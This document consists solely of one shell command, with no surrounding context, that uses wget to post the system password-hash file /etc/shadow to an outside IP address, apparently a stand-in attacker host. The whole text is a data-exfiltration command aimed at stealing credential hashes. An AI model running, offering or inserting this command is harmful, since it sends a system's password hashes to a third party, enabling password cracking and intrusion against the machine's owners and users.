wget --post-file=/etc/shadow http://203.0.113.5/
